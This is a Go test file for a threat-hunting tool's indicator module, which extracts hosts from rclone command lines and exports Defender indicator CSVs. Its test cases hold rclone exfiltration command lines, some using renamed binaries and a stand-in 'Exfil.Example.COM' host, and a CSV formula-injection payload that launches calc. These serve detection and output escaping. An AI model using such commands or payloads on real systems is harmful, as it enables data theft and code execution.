package ioc

import (
	"context"
	"io"
	"os"
	"slices"
	"strings"
	"testing"

	"offhunt/detect"
	"offhunt/detect/kql/builtin"
)

func TestRemoteHosts(t *testing.T) {
	cases := []struct {
		cmd  string
		want []string
	}{
		{`rclone.exe config create ftpserver ftp host ftp.dlptest.com port 21 user dlpuser pass x`, []string{"DomainName ftp.dlptest.com"}},
		{`&$rclone_bin config create ftpserver "ftp" "host" #{ftp_server} "port" #{ftp_port}`, nil},
		{`rclone config create dav webdav url=https://dav.example.org/remote.php/webdav vendor=nextcloud`, []string{"Url https://dav.example.org/remote.php/webdav"}},
		{`svc.exe copy C:\data :sftp,host=10.1.2.3,user=bob:/upload --sftp-port 2222`, []string{"IpAddress 10.1.2.3"}},
		{`svc.exe copy C:\data :webdav,url='https://files.example.net:8443/dav':x`, []string{"Url https://files.example.net:8443/dav"}},
		{`rclone.exe copy C:\data x: --ftp-host=Exfil.Example.COM:21 --ftp-user=u`, []string{"DomainName exfil.example.com"}},
		{`rclone.exe copyurl https://rclone.org/ remote:x`, []string{"Url https://rclone.org/"}},
		{`rclone.exe copy "\\SERVER\Shares" Mega:DATA -q --ignore-existing`, nil},
		{`rclone.exe copy C:\x remote: --s3-endpoint s3.wasabisys.com`, []string{"DomainName s3.wasabisys.com"}},
	}
	for _, c := range cases {
		var got []string
		for _, h := range remoteHosts(builtin.SplitWindowsCommandLine(c.cmd)) {
			if typ, v, ok := classify(h); ok {
				got = append(got, typ+" "+v)
			}
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s\n got %q\nwant %q", c.cmd, got, c.want)
		}
	}
}

func TestClassify(t *testing.T) {
	for in, want := range map[string]string{
		"ftp.example.com":     "DomainName ftp.example.com",
		"ftp.example.com:21":  "DomainName ftp.example.com",
		"10.0.0.5:21":         "IpAddress 10.0.0.5",
		"[2001:db8::1]":       "IpAddress 2001:db8::1",
		"2001:db8::1":         "IpAddress 2001:db8::1",
		"#{ftp_server}":       "",
		"$server":             "",
		"localhost":           "",
		"=HYPERLINK(x)":       "",
		"1.2.3":               "",
		"https://a.example/x": "Url https://a.example/x",
	} {
		typ, v, ok := classify(in)
		got := ""
		if ok {
			got = typ + " " + v
		}
		if got != want {
			t.Errorf("classify(%q) = %q, want %q", in, got, want)
		}
	}
}

func scanFile(t *testing.T, p string) *detect.Findings {
	t.Helper()
	in := detect.Input{Name: p, Open: func() (io.ReadCloser, error) { return os.Open(p) }}
	f, err := detect.Scan(context.Background(), []detect.Input{in}, detect.ScanOptions{Options: detect.Options{Now: "latest"}})
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// TestFromFindings checks the indicators of the sample export: rclone's
// hashes (never those of the shells around it), and the seed's URL blocks.
func TestFromFindings(t *testing.T) {
	f := scanFile(t, "../testdata/sample_dpe.csv")
	ind := FromFindings(f)
	var hashes, urls []string
	for _, in := range ind {
		switch in.Type {
		case FileSha256:
			hashes = append(hashes, in.Value)
			if in.Action != "BlockAndRemediate" || !strings.Contains(in.Description, "rclone") || len(in.Mitre) == 0 {
				t.Errorf("hash indicator %+v", in)
			}
		case URL:
			urls = append(urls, in.Value)
		}
	}
	if !slices.Equal(urls, []string{"downloads.rclone.org", "github.com/rclone/rclone", "rclone.org"}) {
		t.Errorf("urls %q", urls)
	}
	if len(hashes) == 0 {
		t.Fatal("no rclone hash")
	}
	// Every hash must belong to a finding whose process is rclone.
	for _, fd := range f.Findings {
		row := rowText(&fd)
		sha := strings.ToLower(row["SHA256"])
		if slices.Contains(hashes, sha) && !processIsRclone(&fd, row, builtin.SplitWindowsCommandLine(fd.CommandLine)) &&
			!strings.Contains(strings.ToLower(fd.FileName), "rclone") {
			t.Errorf("hash %s of %s (%s) is not rclone's", sha, fd.FileName, fd.CommandLine)
		}
	}
}

func TestProcessIsRclone(t *testing.T) {
	for _, c := range []struct {
		file, cmd, company string
		want               bool
	}{
		{"rclone.exe", "rclone.exe copy a b:c", "https://rclone.org", true},
		{"svchost.exe", `svchost.exe --config svchost.conf --progress copy \\s\c$ ftp1:/x`, "", true},
		{"svchost.exe", `svchost.exe -k netsvcs -p`, "Microsoft Corporation", false},
		{"cmd.exe", `cmd.exe /c rclone.exe copy a b:c`, "", false},
		{"powershell.exe", `powershell.exe copy a b`, "", false},
		{"PsExec64.exe", `PsExec64.exe \\h -s C:\svc.exe copy D:\ r:x`, "", false},
		{"upd.exe", `upd.exe sync D:\ secret:bucket`, "", true},
	} {
		fd := &detect.Finding{FileName: c.file, CommandLine: c.cmd}
		row := map[string]string{"ProcessVersionInfoCompanyName": c.company}
		if got := processIsRclone(fd, row, builtin.SplitWindowsCommandLine(c.cmd)); got != c.want {
			t.Errorf("%s: %v, want %v", c.cmd, got, c.want)
		}
	}
}

func TestWriteDefenderCSV(t *testing.T) {
	var sb strings.Builder
	err := WriteDefenderCSV(&sb, []Indicator{
		{Type: URL, Value: "rclone.org", Action: "BlockAndRemediate", Severity: "Medium", Title: "t", Description: "=cmd|' /C calc'!A0\nsecond line", Category: "Exfiltration", Mitre: []string{"T1567.002", "T1105"}, GenerateAlert: true},
		{Type: FileSha256, Value: strings.Repeat("a", 64), Action: "BlockAndRemediate", Severity: "High", Title: "h", Description: "d"},
	})
	if err != nil {
		t.Fatal(err)
	}
	want := "IndicatorType,IndicatorValue,ExpirationTime,Action,Severity,Title,Description,RecommendedActions,RbacGroups,Category,MitreTechniques,GenerateAlert\r\n" +
		"Url,rclone.org,,Block,Medium,t,'=cmd|' /C calc'!A0 second line,,,Exfiltration,\"T1567.002,T1105\",True\r\n" +
		"FileSha256," + strings.Repeat("a", 64) + ",,BlockAndRemediate,High,h,d,,,,,False\r\n"
	if sb.String() != want {
		t.Errorf("got\n%s\nwant\n%s", sb.String(), want)
	}
	if n := len(Batches(make([]Indicator, 1201))); n != 3 {
		t.Errorf("1201 indicators in %d batches, want 3", n)
	}
}
